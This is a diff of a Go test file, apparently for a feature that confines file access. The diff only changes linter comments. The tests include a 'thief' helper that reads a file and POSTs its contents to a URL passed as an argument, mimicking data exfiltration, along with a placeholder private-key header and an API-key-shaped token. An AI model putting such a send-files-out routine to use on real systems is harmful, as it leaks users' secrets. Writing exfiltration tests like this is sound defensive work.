@@ -32,7 +32,7 @@ func thief() {
 		if err != nil {
 			b = []byte("nothing")
 		}
-		r, err := http.Post(os.Args[2], "text/plain", strings.NewReader(string(b))) //nolint:noctx // the process ends
+		r, err := http.Post(os.Args[2], "text/plain", strings.NewReader(string(b))) //nolint:forbidigo // as an attacker does: the process ends
 		if err != nil {
 			return "not posted"
 		}
@@ -83,7 +83,7 @@ type robbed struct {
 	posted []string
 }
 
-const secretKey = "-----BEGIN OPENSSH PRIVATE KEY-----" //nolint:gosec // of no one
+const secretKey = "-----BEGIN OPENSSH PRIVATE KEY-----"
 
 func newRobbed(t *testing.T) *robbed {
 	t.Helper()
@@ -435,7 +435,7 @@ func TestFilesOnlyConfinesAndIsReviewed(t *testing.T) {
 // the names of the files that it opens.
 func TestAKeyIsTakenOutOfWhatAServerWasRefused(t *testing.T) {
 	t.Parallel()
-	const token = "sk-7Hq2Lm9Zt4Wx8Rb3Nc6V" //nolint:gosec // of no one
+	const token = "sk-7Hq2Lm9Zt4Wx8Rb3Nc6V"
 	r := newRobbed(t)
 	clitest.Write(t, r.home, token, "x")
 	r.key = filepath.Join(r.home, token)
